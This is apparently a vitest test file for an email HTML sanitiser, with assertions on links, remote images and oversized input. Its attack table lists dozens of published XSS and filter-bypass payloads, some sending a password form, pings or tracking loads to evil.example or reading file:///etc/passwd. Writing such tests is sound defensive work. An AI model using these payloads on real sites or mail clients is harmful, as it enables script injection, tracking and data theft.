import { describe, expect, test } from 'vitest'
import { cleanMailHtml } from './sanitise-mail.ts'

const clean = (html: string, remoteContent = false) =>
  cleanMailHtml(html, { remoteContent, fileUrl: (id) => (id === 'logo@1' ? '/files/1/a' : null) })

/** Every tag that a browser would open in the result, with its attributes. */
const opened = (html: string) =>
  [...html.matchAll(/<([a-z][^\s>/]*)((?:[^>"]|"[^"]*")*)>/gi)].map(([, tag, rest]) => ({
    tag: tag!.toLowerCase(),
    rest: rest!,
  }))

const harmless =
  /^(?:a|abbr|b|blockquote|br|center|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/

function expectHarmless(html: string) {
  for (const { tag, rest } of opened(html)) {
    expect(tag).toMatch(harmless)
    const names = [...rest.matchAll(/\s([^\s="]+)(?:="[^"]*")?/g)].map(([, name]) => name!)
    for (const name of names)
      expect(name).not.toMatch(/^on|^srcdoc$|^formaction$|^background$|^ping$|^id$|^class$|^xlink/i)
    for (const [, name, value] of rest.matchAll(/\s(href|src)="([^"]*)"/g))
      expect(value).toMatch(
        name === 'href'
          ? /^(?:https?:\/\/|mailto:|tel:)/
          : /^(?:https?:\/\/|\/files\/|data:image\/(?:png|jpeg|gif|webp);)/,
      )
    for (const [, style] of rest.matchAll(/\sstyle="([^"]*)"/g))
      expect(style).not.toMatch(/position|url|expression|behaviou?r|import|\\|var\(/i)
  }
  // a tag that the expression above could not read would be a hole in it
  expect(html.replace(/<\/?[a-z][^\s>/]*(?:[^>"]|"[^"]*")*>/gi, '')).not.toContain('<')
}

/** Published ways around HTML filters: PortSwigger’s and OWASP’s cheat sheets, advisories of DOMPurify, sanitize-html, mail clients. */
const attacks: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'unclosed script': '<script>alert(1)',
  'script in two': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'event attribute': '<img src=x onerror=alert(1)>',
  'event attribute without a space': '<img/src=x/onerror=alert(1)>',
  'event attribute after a quote': '<a href="http://x"onmouseover="alert(1)">x</a>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link, split': '<a href="java\tscr\nipt:alert(1)">x</a>',
  'javascript link, entities': '<a href="&#106;avascript&colon;alert(1)">x</a>',
  'javascript link, control character': '<a href="\u0001javascript:alert(1)">x</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'deep nesting': `${'<div>'.repeat(600)}<style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
  'deep nesting of forms': `${'<form><div>'.repeat(300)}<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  xmp: '<xmp><img src=x onerror=alert(1)></xmp>',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with a text area':
    '<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>',
  'svg animation': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'SMIL sets a link':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  math: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'math annotation':
    '<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=alert(1)></style></math>',
  selectedcontent:
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></option></select>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noscript in a table': '<table><noscript></table><img src=x onerror=alert(1)></noscript>',
  'iframe with srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'iframes in iframes': `${'<iframe>'.repeat(20)}<img src=x onerror=alert(1)>`,
  object: '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  form: '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  base: '<base href="https://evil.example/"><a href="/x">x</a>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  link: '<link rel="stylesheet" href="https://evil.example/x.css">',
  'style sheet': '<style>@import "https://evil.example/x.css"; body{position:fixed}</style>',
  'style sheet that ends early': '<style></style/><img src=x onerror=alert(1)></style>',
  'style that covers the page':
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red">x</div>',
  'style that loads': '<div style="background:url(https://evil.example/p.gif)">x</div>',
  'style that loads, escaped': String.raw`<div style="background:\75 rl(https://evil.example/p.gif)">x</div>`,
  'style with an expression': '<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</div>',
  'style that breaks out': `<div style='color:red"onmouseover="alert(1)'>x</div>`,
  'style breaks out by a quote in a name': `<p style="font-family:'x&quot; onmouseover=&quot;alert(1)'">x</p>`,
  'negative margin': '<div style="margin-top:-4000px;transform:scale(99)">x</div>',
  comment: '<!--><img src=x onerror=alert(1)>-->',
  'comment of the conditional kind': '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p>',
  'processing instruction': '<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html [<!ENTITY x "y">]><p>x</p>',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'NUL inside a tag': '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x one\u0000rror=alert(1)>',
  'tag without an end': '<img src="x` `<script>alert(1)</script>"` `>',
  'attribute without an end': '<img alt="<script>alert(1)</script>',
  'picture as svg': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'pictures by srcset':
    '<picture><source srcset="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x"></picture>',
  'background attribute':
    '<table background="https://evil.example/p.gif"><tr><td background="javascript:alert(1)">x</table>',
  'video poster': '<video poster="https://evil.example/p.gif" src=x onerror=alert(1)></video><audio src=x>',
  'link that pings': '<a href="https://shop.example" ping="https://evil.example">x</a>',
  'named like our own': '<div id="app" class="toast" name="x">x</div>',
  'custom elements': '<x-evil onclick=alert(1)>x</x-evil><o:p>x</o:p>',
  marquee: '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  'file of one’s own machine': '<img src="file:///etc/passwd"><a href="file:///etc/passwd">x</a>',
}

describe('nothing that runs, loads, covers or asks gets through', () => {
  test.each(Object.entries(attacks))('%s', (_name, html) => {
    const cleaned = clean(html)
    expectHarmless(cleaned.html)
    // cleaning what is clean changes nothing: there is no second way to read it
    expect(clean(cleaned.html).html).toBe(cleaned.html)
    expect(cleaned.html).not.toContain('evil.example/p')
  })
})

test('an ordinary mail looks as it did', () => {
  const html =
    '<div dir="ltr"><p style="margin:0;color:#1f497d;font-family:Calibri, sans-serif">Hola <b>Ana</b>:</p>' +
    '<table border="0" cellpadding="4" width="600"><tbody><tr><td bgcolor="#eeeeee" align="center">1</td></tr></tbody></table>' +
    '<ul><li>uno</li></ul><blockquote style="margin:0 0 0 .8ex;border-left:1px solid rgb(204,204,204)">antes</blockquote></div>'
  expect(clean(html).html).toBe(html)
})

test('links open apart and tell nobody where from', () => {
  expect(clean('<a href="https://shop.example/a?b=1&amp;c=2">x</a>').html).toBe(
    '<a href="https://shop.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
  )
  expect(clean('<a href="mailto:ana@correo.es">x</a><a href="tel:+34600000142">y</a>').html).toContain(
    'href="tel:+34600000142"',
  )
  expect(clean('<a href="/members">x</a><a href="#top">y</a>').html).toBe('<a>x</a><a>y</a>')
})

test('pictures of the mail are its files; pictures from elsewhere wait until they are asked for', () => {
  const html =
    '<img src="cid:logo@1" alt="Sol"><img src="cid:gone"><img src="https://shop.example/p.gif" width="1" height="1">'
  const shy = clean(html)
  expect(shy.hasRemoteContent).toBe(true)
  expect(shy.html).toContain('src="/files/1/a"')
  expect(shy.html).not.toContain('shop.example')
  const open = clean(html, true)
  expect(open.html).toContain('src="https://shop.example/p.gif"')
  expect(clean('<img src="//shop.example/p.gif">').hasRemoteContent).toBe(true)
  expect(clean('<img src="cid:logo@1"><p>x</p>').hasRemoteContent).toBe(false)
})

test('text that looks like markup stays text', () => {
  expect(clean('<p>1 &lt; 2 &amp;&amp; &lt;b&gt;</p>').html).toBe('<p>1 &lt; 2 &amp;&amp; &lt;b&gt;</p>')
  expect(clean('{{7*7}} ${x}').html).toBe('{{7*7}} ${x}')
})

test('HTML of megabytes comes to an end', () => {
  const table = '<tr><td style="color:red">a</td></tr>'.repeat(10_000)
  expect(clean(`<table>${table}</table>`).html).toContain('<td style="color:red">a</td>')
  expect(clean('<div>'.repeat(200_000)).html.length).toBeLessThan(100_000)
  expect(clean('<'.repeat(500_000)).html).not.toContain('<')
})
